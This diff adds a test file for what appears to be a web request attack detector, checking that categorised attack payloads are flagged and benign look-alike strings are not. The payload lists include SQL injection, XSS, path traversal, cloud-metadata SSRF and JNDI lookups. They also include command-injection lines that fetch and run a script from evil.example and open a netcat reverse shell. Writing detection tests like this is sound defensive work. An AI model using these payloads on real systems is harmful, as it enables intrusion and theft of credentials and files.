@@ -1,0 +1,103 @@
+import { test } from 'node:test';
+import assert from 'node:assert/strict';
+import { everywhere, inspect, type Req } from './helpers.js';
+
+// Every category: real payloads must be attacks (and name the category); benign look-alikes must not be.
+
+const ATTACKS: Record<string, string[]> = {
+  sqli: ["' or 1=1--", "admin'--", '1 UNION SELECT username, password FROM users', "1'; DROP TABLE users; --", "' AND SLEEP(5)#", '1) or (1=1', "x' || (select pg_sleep(10)) || '", '-1 union all select null,null,@@version--', "'; exec master..xp_cmdshell 'dir'--", "1 AND extractvalue(1, concat(0x7e, version()))", "' OR 'a'='a", '1;waitfor delay \'0:0:5\'--'],
+  xss: ['<script>alert(1)</script>', '<img src=x onerror=alert(1)>', '"><svg/onload=alert(document.domain)>', 'javascript:alert(1)', '<a href="jav&#x09;ascript:alert(1)">x</a>', "';alert(String.fromCharCode(88,83,83))//", '<iframe src="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">', '" autofocus onfocus="alert(1)'],
+  lfi: ['../../../../etc/passwd', '..%2f..%2f..%2fetc%2fshadow', '....//....//etc/passwd', '..\\..\\..\\windows\\win.ini', '%c0%ae%c0%ae/%c0%ae%c0%ae/etc/passwd', '/proc/self/environ'],
+  rce: [';cat /etc/passwd', '| id', '`whoami`', '$(curl http://evil.example/x.sh | sh)', '127.0.0.1; nc -e /bin/sh 10.0.0.1 4444', '&& ping -c 10 127.0.0.1', '() { :; }; /bin/bash -c "id"', 'cmd.exe /c dir', ';c\'\'at /et\'\'c/pas\'\'swd', 'powershell -enc SQBFAFgA'],
+  ssrf: ['http://169.254.169.254/latest/meta-data/', 'http://metadata.google.internal/computeMetadata/v1/', 'http://127.0.0.1:8080/admin', 'http://2130706433/', 'http://0x7f000001/', 'http://[::ffff:127.0.0.1]/', 'gopher://127.0.0.1:6379/_INFO', 'file:///etc/passwd', 'http://localhost/server-status'],
+  xxe: ['<?xml version="1.0"?><!DOCTYPE foo [<!ENTITY xxe SYSTEM "file:///etc/passwd">]><foo>&xxe;</foo>', '<!DOCTYPE r [<!ENTITY % ext SYSTEM "http://evil.example/x.dtd"> %ext;]><r/>'],
+  ssti: ['{{7*7}}', "{{''.__class__.__mro__[1].__subclasses__()}}", '${7*7}', '<%= system("id") %>', '#{7*7}', '{{config.items()}}', '${T(java.lang.Runtime).getRuntime().exec("id")}'],
+  jndi: ['${jndi:ldap://evil.example/a}', '${${lower:j}ndi:ldap://evil.example/a}', '${${::-j}${::-n}${::-d}${::-i}:rmi://evil.example/a}', '${${env:NOPE:-j}ndi${env:NOPE:-:}ldap://x/a}'],
+  php: ['<?php system($_GET["c"]); ?>', 'php://filter/convert.base64-encode/resource=index.php', 'O:8:"stdClass":1:{s:1:"a";s:1:"b";}', 'eval(base64_decode("cGhwaW5mbygpOw=="))', 'expect://id'],
+  java: ['java.lang.Runtime.getRuntime().exec("id")', 'rO0ABXNyABdqYXZhLnV0aWwuUHJpb3JpdHlRdWV1ZQ==', 'new ProcessBuilder("sh").start()', 'class.module.classLoader.resources.context.parent.pipeline.first.pattern=x'],
+  node: ['require("child_process").exec("id")', '_$$ND_FUNC$$_function(){require("child_process").exec("ls")}()', 'this.constructor.constructor("return process")().mainModule', 'process.mainModule.require("fs")'],
+  ldapi: ['*)(uid=*))(|(uid=*', 'admin)(|(password=*))', '*)(objectClass=*'],
+  crlf: ['foo\r\nSet-Cookie: session=attacker', 'x%0d%0aLocation:%20http://evil.example'],
+  rfi: ['http://203.0.113.66/shell.txt?', 'https://evil.example/shell.php?'],
+};
+
+const BENIGN: string[] = [
+  'select specialty hospital', 'having friends over is nice', 'how to grep a log file', 'drop shipping', "Conor O'Brien", "D'Angelo's pizza", 'union station parking',
+  'Tom & Jerry', 'rock & roll', 'price < 50 and size > 10', "It's 5 o'clock somewhere", 'Please delete my old address; the new one is 12 Main St.',
+  'Select your favourite colour from the list below', 'The "premium" plan is $19.99/month', 'see https://example.com/help?topic=returns&lang=en',
+  'C:\\Program Files\\App', 'cat food delivery', 'who am i', 'date night ideas', '1+1=2', 'email@example.com', '2024-06-17T09:00:00Z', '€17,99',
+  'We moved the docs to ../guide/setup.md', 'Use {{name}} as a placeholder', 'Cost: ${price}', 'node.js require vs import', 'a (b) c', 'OR', 'and',
+  'Is <b>bold</b> supported?', 'javascript: the good parts', 'java.util.List is an interface', 'this is the 1st of the month', "don't; won't; can't",
+];
+
+for (const [category, payloads] of Object.entries(ATTACKS)) {
+  test(`${category}: attack payloads are flagged`, () => {
+    for (const p of payloads) {
+      const reqs: Req[] = category === 'crlf' ? [{ query: `next=${p.includes('%') ? p : encodeURIComponent(p)}` }] : everywhere(p);
+      for (const r of reqs) {
+        const res = inspect(r);
+        assert.ok(res.attack, `${category} not flagged: ${p} (${JSON.stringify(r).slice(0, 80)}) → ${JSON.stringify(res.findings)}`);
+        assert.ok(res.findings.length > 0);
+      }
+    }
+  });
+}
+
+test('benign look-alikes pass in every location', () => {
+  for (const b of BENIGN) {
+    for (const r of everywhere(b)) {
+      const res = inspect(r);
+      assert.equal(res.attack, false, `false positive: ${b} → ${JSON.stringify(res.findings)}`);
+    }
+  }
+});
+
+test('findings carry category, rule, severity, confidence, score, location and short evidence', () => {
+  const res = inspect({ body: JSON.stringify({ user: { name: "x' UNION SELECT password FROM users--" + 'a'.repeat(200) } }), contentType: 'application/json' });
+  const f = res.findings.find((x) => x.category === 'sqli');
+  assert.ok(f);
+  assert.equal(f.location, 'body:/user/name');
+  assert.match(f.rule, /^sqli\./);
+  assert.ok(['low', 'medium', 'high', 'critical'].includes(f.severity));
+  assert.ok(f.confidence > 0 && f.confidence <= 1 && f.score > 0);
+  assert.ok(f.evidence.length <= 80);
+});
+
+test('JSON keys, query keys and cookies are inspected', () => {
+  assert.ok(inspect({ body: '{"user":{"$ne":null}}', contentType: 'application/json' }).findings.some((f) => f.category === 'nosqli'));
+  assert.ok(inspect({ query: 'user[$ne]=x' }).attack);
+  assert.ok(inspect({ body: '{"__proto__":{"admin":true}}', contentType: 'application/json' }).attack);
+  assert.ok(inspect({ query: 'a[constructor][prototype][admin]=1' }).attack);
+  assert.ok(inspect({ headers: { cookie: "sid=abc; pref=' or 1=1--" } }).attack);
+  assert.ok(inspect({ headers: { 'user-agent': 'sqlmap/1.7.2#stable (https://sqlmap.org)' } }).attack);
+  assert.ok(inspect({ headers: { 'x-api-version': '${jndi:ldap://x.example/a}' } }).attack);
+});
+
+test('multipart fields and file names, and XML bodies', () => {
+  const mp = ['--XyZ', 'Content-Disposition: form-data; name="title"', '', "x' or 1=1--", '--XyZ', 'Content-Disposition: form-data; name="file"; filename="shell.php"', 'Content-Type: text/plain', '', 'hello', '--XyZ--', ''].join('\r\n');
+  const res = inspect({ body: mp, contentType: 'multipart/form-data; boundary=XyZ' });
+  assert.ok(res.findings.some((f) => f.location === 'body:title' && f.category === 'sqli'), JSON.stringify(res.findings));
+  assert.ok(res.findings.some((f) => f.location === 'filename:file'), JSON.stringify(res.findings));
+  const xml = inspect({ body: '<order><note>fine</note><item id="1 UNION SELECT password FROM users--"/></order>', contentType: 'application/xml' });
+  assert.ok(xml.findings.some((f) => f.location === 'body:/item/@id'), JSON.stringify(xml.findings));
+  assert.equal(inspect({ body: '<order><note>Conor O\'Brien wants it by Friday</note></order>', contentType: 'application/xml' }).attack, false);
+});
+
+test('paranoia enables aggressive rules; threshold and exclusions change the verdict', () => {
+  const off = { query: 'link=https://partner.example/page' };
+  assert.equal(inspect(off).findings.length, 0);
+  assert.ok(inspect(off, { paranoia: 2 }).findings.some((f) => f.rule === 'rfi.off-domain-url'));
+  const sqli = { query: `q=${encodeURIComponent("' or 1=1--")}` };
+  assert.equal(inspect(sqli, { threshold: 1000 }).attack, false);
+  assert.equal(inspect(sqli, { exclusions: [{ category: 'sqli' }] }).attack, false);
+  assert.equal(inspect(sqli, { exclusions: [{ location: 'query:q' }] }).attack, false);
+  assert.equal(inspect(sqli, { exclusions: [{ location: 'query:other' }] }).attack, true);
+  assert.equal(inspect(sqli, { exclusions: [{ rule: 'sqli.*' }] }).attack, false);
+});
+
+test('a separator in prose scores lower than an injected command', () => {
+  const prose = inspect({ query: `q=${encodeURIComponent('how to use grep | sort')}` });
+  const attack = inspect({ query: `q=${encodeURIComponent(';cat /etc/passwd')}` });
+  assert.ok(prose.score < attack.score, `${prose.score} vs ${attack.score}`);
+  assert.equal(prose.attack, false);
+});
